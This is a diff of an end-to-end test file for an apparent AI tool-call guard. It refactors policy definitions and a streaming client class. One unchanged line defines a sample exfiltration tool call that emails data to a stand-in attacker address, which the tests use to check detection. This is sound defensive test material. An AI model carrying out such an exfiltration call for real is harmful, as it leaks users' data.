@@ -25,6 +25,7 @@ from guard.adapters.redis.operators import LabelOperator
 from guard.adapters.redis.store import RedisSessionStore
 from guard.core.policy import StateLimits
 from guard.provenance.seal import Seal
+from tests.e2e.clients import Reading
 from tests.e2e.running_guard import ROOT, Upstream, start_guard, wait_until
 from tests.e2e.test_model_sdks import answer as model_answer
 from tests.e2e.test_model_sdks import (
@@ -33,6 +34,7 @@ from tests.e2e.test_model_sdks import (
     ask_openai_chat,
     ask_openai_responses,
 )
+from tests.e2e.test_websockets import POLICY as BLOCKING
 
 if TYPE_CHECKING:
     from collections.abc import AsyncIterator, Iterator
@@ -47,22 +49,9 @@ pytestmark = pytest.mark.e2e
 SECONDS = 60.0
 THEFT = ("email_send_email", {"to": "me@evil.test", "subject": "s", "body": "b"})
 HOLD = "version: 1\nname: hold\nask: {hold: 5m, quiet: 60s}\n"
-SOCKETS = """
-version: 1
-name: sockets
-mode: enforce
-ask: {hold: 5m}
-tools:
-  - match: [http.request]
-    role: send
-    destinations: ["$.url"]
-    ignore: ["$.method", "$.host", "$.content_type", "$.headers"]
-  - match: [websocket.message]
-    role: other
-rules:
-  - {id: secrets, type: content, finds: [secret_found, injection_text], effect: ask}
-  - {id: allow, type: tool, effect: allow}
-"""
+SOCKETS = BLOCKING.replace("mode: enforce", "mode: enforce\nask: {hold: 5m}").replace(
+    "effect: block", "effect: ask"
+)
 ECHO = """
 version: 1
 name: echo
@@ -150,11 +139,11 @@ CLIENTS = pytest.mark.parametrize(
 )
 
 
-class Raw:
+class Raw(Reading):
     """A streamed answer as it comes."""
 
     def __init__(self, url: str) -> None:
-        self.text = ""
+        super().__init__()
         self._client = httpx.AsyncClient(trust_env=False, timeout=SECONDS)
         self._url = f"{url}/v1/chat/completions"
         self.task = asyncio.get_running_loop().create_task(self._run())
@@ -165,13 +154,6 @@ class Raw:
         async with self._client, self._client.stream("POST", self._url, json=asked) as answer:
             async for piece in answer.aiter_text():
                 self.text += piece
-
-    async def reads(self, text: str) -> None:
-        """Wait until something stands in what has come so far."""
-        async with asyncio.timeout(SECONDS):
-            while text not in self.text:
-                assert not self.task.done() or text in self.text, self.text
-                await asyncio.sleep(0.02)
 
     async def leave(self) -> None:
         """Hang up."""
